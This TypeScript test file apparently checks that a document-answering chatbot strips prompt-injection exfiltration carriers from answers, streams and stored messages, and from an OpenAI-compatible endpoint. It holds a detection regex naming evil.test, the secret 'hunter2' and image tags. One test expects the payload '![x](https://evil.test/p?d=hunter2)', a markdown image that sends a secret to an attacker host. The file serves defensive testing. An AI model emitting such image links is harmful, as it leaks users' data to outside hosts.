import { type Json, newTeam, succeeded, type Team } from '#tests/support/api.ts';
import { ask, messagesOf, newBotPath } from '#tests/support/chat.ts';
import { readStream } from '#tests/support/sse.ts';
import { addText } from '#tests/support/upload.ts';

const OBEDIENT = { model: 'openai/gpt-stub-obedient' };
const CARRIERS = /evil\.test|hunter2|<img|!\[|[^\P{Cc}\n]/u;

let team: Team;

beforeAll(async () => {
  team = await newTeam();
  await addText(team.owner, team.path, 'Staff have fifteen days of leave a year.');
});

test('an answer, its stream and its stored text carry no data to places that no cited passage names', async () => {
  const path = await newBotPath(team, OBEDIENT);
  const { conversation_id, message } = await ask(team.owner, path, 'How many days of leave?');
  expect(message.content).toMatch(/^“Staff have fifteen days of leave a year\.” \[1\]\n\n/);
  expect(message.content).toContain('[click] &lt;img src=');
  expect(message.content).not.toMatch(CARRIERS);
  for (const { start, end } of message.citations)
    expect(message.content.slice(start, end)).toMatch(/leave a year.*\[1\]$/);
  const [, saved] = await messagesOf(team.owner, team.path, conversation_id);
  expect(saved?.content).toBe(message.content);
  const events = await readStream(team.owner, path, { message: 'How many days of leave?' });
  const deltas = events.filter(({ event }) => event === 'delta').map(({ data }) => String(data.text));
  expect(deltas.join('')).toBe(message.content);
});

test('the door for OpenAI’s clients is guarded too', async () => {
  const path = await newBotPath(team, OBEDIENT);
  const { choices } = succeeded(
    await team.owner.post<{ choices: { message: { content: string } }[] }>('/v1/chat/completions', {
      model: path.split('/').at(-2),
      messages: [{ role: 'user', content: 'How many days of leave?' }],
    }),
  );
  expect(choices[0]?.message.content).not.toMatch(CARRIERS);
});

test('a bot may pass what its model writes, but for control characters', async () => {
  const path = await newBotPath(team, { ...OBEDIENT, links: 'all' });
  const { message } = await ask(team.owner, path, 'How many days of leave?');
  expect(message.content).toContain('![x](https://evil.test/p?d=hunter2)');
  expect(message.content).not.toContain('\u001B');
});

test('`cited` is the default, and another rule is refused', async () => {
  const create = (body: Json) => team.owner.post(`${team.path}/bots`, { name: 'b', ...body });
  expect(succeeded(await create({})).links).toBe('cited');
  expect((await create({ links: 'some' })).status).toBe(422);
});
